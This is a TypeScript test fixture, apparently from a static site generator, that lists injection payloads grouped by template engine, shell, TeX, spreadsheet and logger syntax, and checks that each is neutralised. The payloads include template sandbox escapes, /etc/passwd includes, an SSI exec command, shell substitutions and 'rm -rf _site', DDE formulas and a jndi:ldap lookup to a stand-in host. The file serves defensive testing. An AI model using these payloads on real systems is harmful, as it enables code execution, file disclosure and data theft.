// Hostile tests: the syntax of every template engine, shell and include that a site might be built or served with.

import { both, HOST, type Neutralised, SUM } from "../neutralised.ts";
import { CODE } from "../refused.ts";

const engines: Readonly<Record<string, readonly string[]>> = {
  Nunjucks: [
    `{{ ${SUM} }}`,
    `{{ range.constructor('${CODE.replaceAll('"', "\\'")}')() }}`,
    `{% set x = ${SUM} %}{{ x }}`,
    "{% include '/etc/passwd' %}",
    "{{ eleventy.env.root }} {{ collections.all | dump }}",
    "{% raw %}{{ x }}{% endraw",
  ],
  Liquid: [
    `{{ 7919 | times: 7907 }}`,
    "{% render '../secret' %}",
    "{% for i in (1..50000000) %}{% endfor %}",
    "{%50%}",
    "Vi lovar {{ att",
  ],
  Handlebars: [
    `{{#with "s" as |s|}}{{lookup s.sub "constructor"}}{{/with}}`,
    "{{{ constructor }}}",
    "{{> ../../etc/passwd}}",
  ],
  Mustache: ["{{& x }}", "{{=<% %>=}}"],
  EJS: [`<%= ${SUM} %>`, `<%- include('/etc/passwd') %>`, `<% ${CODE} %>`],
  Pug: [`#{${SUM}}`, `!= ${SUM}`],
  "template literals": ["$", "#", "@", "*"].map((sign) => `${sign}{${SUM}}`),
  JSX: [`{${SUM}}`, `{/* ${SUM} */}`, "<Component {...props} />"],
  MDX: ['import fs from "node:fs"', `export const x = ${SUM}`],
  Vue: [`<p v-html="${SUM}">`, `{{ constructor.constructor('alert(1)')() }}`, `<div @click="x" :href="y">`],
  Angular: [`{{constructor.constructor('${SUM}')()}}`, `<p ng-app ng-csp>{{${SUM}}}`],
  Jinja: [`{{ ''.__class__.__mro__ }}`, `{{ config.items() }}`],
  Twig: ["{{ _self.env.registerUndefinedFilterCallback('exec') }}"],
  Go: [`{{ printf "%d" (mul 7919 7907) }}`, '{{< readfile "/etc/passwd" >}}', '{{% include "x" %}}'],
  WebC: [`<p webc:raw @html="${SUM}">`, "<script webc:setup>"],
  Freemarker: [`<#assign x=${SUM}>\${x}`, `[=${SUM}]`],
  Velocity: [`#set($x=${SUM})$x`],
  Thymeleaf: [`[[\${${SUM}}]]`, `__\${${SUM}}__::.x`],
  Razor: [`@(${SUM})`, `@{ var x = ${SUM}; }`],
  PHP: [`<?php echo ${SUM}; ?>`, `<?= ${SUM} ?>`],
  JSP: [`<%@ include file="/etc/passwd" %>`, `\${applicationScope}`],
  "server-side includes": [
    '<!--#exec cmd="id" -->',
    '<!--#include virtual="/etc/passwd" -->',
    `<esi:include src="https://${HOST}/"/>`,
  ],
  Jekyll: ["{% link ../secret.md %}", "{{ site.data | jsonify }}"],
  "a second front matter": ["---js", "+++", "---\ntitle: x\n---"],
  shells: ["$(id > hostile-canary)", "`id`", "; rm -rf _site", "|| id", "%COMSPEC%"],
  TeX: ["\\input{/etc/passwd}", "\\write18{id}"],
  spreadsheets: [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    `=HYPERLINK("https://${HOST}/","x")`,
  ],
  loggers: [`\${jndi:ldap://${HOST}/x}`, "%n%n%s%s"],
  formats: ["%s %d %n", "{0} {n} {year}", "$& $1 $` $'"],
};

export const templates: readonly Neutralised[] = Object.entries(engines).flatMap(([engine, texts]) =>
  texts.map((text) => both(text, `${engine}: ${text}`)),
);
